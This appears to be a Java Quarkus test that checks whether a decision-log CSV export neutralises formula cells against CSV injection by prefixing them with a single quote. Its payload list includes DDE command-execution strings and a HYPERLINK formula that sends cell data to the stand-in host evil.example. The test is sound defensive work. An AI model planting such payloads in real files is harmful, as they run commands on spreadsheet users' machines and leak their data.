package org.brigreen.trafficlight.decisionlog;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.brigreen.trafficlight.classification.Descriptors;
import org.junit.jupiter.api.Test;
import static org.brigreen.trafficlight.security.Api.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

/**
 * The CSV export is opened in spreadsheets: a cell that starts like a formula is written with a leading single quote
 * (OWASP, CSV injection), so that it shows as the text it is instead of running. The record itself is unchanged.
 */
@QuarkusTest
class CsvInjectionTest {

    private static final int REFERENCE = 7;
    private static final List<String> PAYLOADS = List.of(
            "=cmd|'/c calc'!A0",
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")",
            "+1+cmd|'/c calc'!A0",
            "-2+3+cmd|'/c calc'!A0",
            "@SUM(1+1)*cmd|'/c calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=1+1,\"quoted\"");

    @Test
    void aReferenceThatLooksLikeAFormulaIsExportedAsText() {
        Instant from = Instant.now().truncatedTo(ChronoUnit.MICROS);
        Map<String, String> referenceById = new LinkedHashMap<>();
        for (String payload : PAYLOADS) {
            String reference = payload + " " + UUID.randomUUID();
            referenceById.put(classify(reference), reference);
        }

        String csv = given().accept(DecisionExport.CSV).queryParam("from", from.toString())
                .when().get("/v1/decisions").then().statusCode(200).extract().asString();

        List<List<String>> rows = parse(csv);
        assertEquals(PAYLOADS.size() + 1, rows.size(), "the header and one row per decision");
        for (List<String> row : rows.subList(1, rows.size())) {
            String reference = referenceById.get(row.get(1));
            assertEquals("'" + reference, row.get(REFERENCE), "the reference, as text");
            for (String cell : row) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + cell);
            }
        }
        String hyperlink = new ArrayList<>(referenceById.values()).get(1);
        assertEquals(hyperlink, given().queryParam("reference", hyperlink).when().get("/v1/decisions")
                .then().statusCode(200).extract().path("items[0].reference"), "JSON keeps the reference as it was sent");
    }

    private static String classify(String reference) {
        return given().contentType(ContentType.JSON)
                .body(Descriptors.solarPark().put("reference", reference).toString())
                .when().post("/v1/classifications").then().statusCode(201).extract().path("decisionId");
    }

    /** The rows of an RFC 4180 document: CRLF line ends, fields in double quotes where they need them. */
    private static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        assertFalse(quoted, "unbalanced quotes");
        assertEquals(0, field.length() + row.size(), "the document ends with CRLF");
        return rows;
    }
}
